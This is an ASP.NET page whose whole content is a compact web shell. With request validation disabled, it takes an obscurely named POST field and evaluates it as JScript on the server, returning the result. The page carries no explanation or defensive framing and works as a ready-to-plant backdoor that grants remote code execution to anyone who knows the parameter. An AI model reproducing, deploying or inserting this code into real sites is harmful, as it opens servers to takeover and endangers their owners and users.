<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Assembly Name="Microsoft.JScript, Version=10.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a" %>
<%
    string c = Request.Form["v9u"];
    if (c != null)
    {
        object ret = Microsoft.JScript.Eval.JScriptEvaluate(c, Microsoft.JScript.Vsa.VsaEngine.CreateEngine());
        Response.Write(ret);
    }
%>
